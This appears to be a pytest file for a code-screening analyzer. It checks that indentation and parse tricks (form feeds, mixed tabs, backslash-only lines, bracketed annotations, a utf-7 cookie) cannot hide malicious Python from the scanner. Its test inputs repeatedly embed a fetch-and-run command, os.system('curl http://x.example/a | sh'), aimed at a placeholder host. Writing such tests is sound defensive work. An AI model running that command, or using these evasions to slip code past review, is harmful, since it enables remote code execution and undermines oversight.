"""Session 47: fail closed, stay up, hide nothing (found by fuzz/test_fuzz_monotone.py).

- Indentation CPython reads and libcst's tokenizer refused ("no matching outer block for dedent"): a form feed in a
  line's indentation (CPython's tokenizer sets the column back to 0 at it) before a nested block's line, and tabs
  and spaces mixed within one line's indentation (`\\t ` then `  \\t\\t `: CPython counts a tab to the next
  multiple of 8 and checks that tabs of width 1 agree). One such line turned any file into a lone
  `unanalyzable.parse-error`: every other finding of the file gone, a reject turned escalate. The screen now reads
  such a file with each line's indentation written as the spaces CPython counts (parse._layout_as_python_reads_it).
- A line that is only indentation and a continuation backslash (found by mutating corpus files at random): CPython
  indents the statement it continues as the backslash is (as its own line when the backslash is at column 0);
  libcst refused the file ("expected INDENT"). It is now read blank, the statement indented as CPython indents it.
  Each rewrite is kept only if CPython reads the result as the same tree.
- An annotated target in brackets, `(x): int = 1` (found by a differential of CPython and the gate's parse over the
  standard library's tests): libcst refused the file ("expected one of !=, ..."), a lone parse-error; read without
  the brackets.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest

import redteam_kit as kit
from analyzer.model import Decision

RUNNER = "import os\n\n\nclass Helper:\n    def run(self):\n        os.system('curl http://x.example/a | sh')\n"


@pytest.mark.parametrize("source", [
    RUNNER.replace("    def run", "\x0c    def run"),
    RUNNER.replace("        os.system", "\x0c        os.system"),
    RUNNER.replace("        os.system", "    \x0c        os.system"),
    "import os\nif True:\n\x0c    if True:\n        os.system('curl http://x.example/a | sh')\n    x = 1\n",
    "import os\nif True:\n\t if True:\n  \t\t os.system('curl http://x.example/a | sh')\nx = 1\n",
    "import os\nif True:\n \tif True:\n     \t   os.system('curl http://x.example/a | sh')\nx = 1\n",
    RUNNER.replace("    def run", "\\\n    def run"),
    RUNNER.replace("        os.system", "        \\\nos.system"),
    "import os\nfor i in range(2):\n    if i:\n        x = 1\n        \\\n    os.system('curl http://x.example/a | sh')\n",
], ids=["block-opener", "nested-line", "spaces-before", "if-chain", "tab-then-space", "space-then-tab",
        "backslash-at-0", "backslash-indented", "backslash-deeper"])
def test_indentation_python_reads_hides_nothing(tmp_path: Path, source: str) -> None:
    compile(source, "client.py", "exec")  # CPython runs it as written
    plain = kit.scan_text(source.replace("\x0c", ""))
    report = kit.scan_source(tmp_path, source)
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert {(f.rule, f.line) for f in report.findings} == {(f.rule, f.line) for f in plain.findings}


def test_a_notebook_cell_with_a_form_feed_in_its_indentation_hides_nothing(tmp_path: Path) -> None:
    source = RUNNER.replace("    def run", "\x0c    def run")
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "source": source.splitlines(True)}
    (tmp_path / "train.ipynb").write_text(json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4,
                                                      "nbformat_minor": 5}))
    report = kit.scan(tmp_path / "train.ipynb")
    assert report.decision is Decision.REJECT, kit.findings(report)


@pytest.mark.parametrize("target", ["(x): int = 1", "(os.environ_copy): dict", "((d[0])) : int = 1"])
def test_a_bracketed_annotated_target_hides_nothing(target: str) -> None:
    source = f"import os\nd = {{}}\n{target}\nos.system('curl http://x.example/a | sh')\n"
    compile(source, "client.py", "exec")
    report = kit.scan_text(source)
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert "unanalyzable.parse-error" not in kit.rules(report)


@pytest.mark.parametrize("inside", ["\x0c    b", "\t  b"])
def test_indentation_inside_a_string_is_kept(tmp_path: Path, inside: str) -> None:
    source = f"import os\nif True:\n\tTEXT = '''a\n{inside}'''\n\tos.system('echo ' + TEXT)\n"
    report = kit.scan_source(tmp_path, source)
    assert any(f.rule.startswith("subprocess.") or f.rule.startswith("remote-code.") for f in report.findings), \
        kit.findings(report)
    assert not any(f.rule == "unanalyzable.parse-error" for f in report.findings)


def test_the_corpus_client_with_page_breaks_rejects() -> None:
    report = kit.scan_sample("malicious/h47_form_feed_page_breaks.py")
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert "unanalyzable.parse-error" not in kit.rules(report)


@pytest.mark.xfail(strict=True, reason="open: a codec that does not write back the bytes it read (utf-7, unicode_escape)"
                   " keeps its indentation as written, and libcst still refuses a form feed before a nested block: a"
                   " lone parse-error (escalate), the reject and obfuscation.source-encoding unreported")
def test_a_form_feed_under_a_utf7_cookie_hides_nothing(tmp_path: Path) -> None:
    source = "# coding: utf-7\n" + RUNNER.replace("    def run", "\x0c    def run")
    path = tmp_path / "client.py"
    path.write_bytes(source.encode())
    report = kit.scan(path)
    assert report.decision is Decision.REJECT, kit.findings(report)


def test_the_corpus_job_with_a_bracketed_annotation_rejects() -> None:
    report = kit.scan_sample("jobs/h47_bracketed_annotation")
    assert report.decision is Decision.REJECT, kit.findings(report)
    assert "unanalyzable.parse-error" not in kit.rules(report)
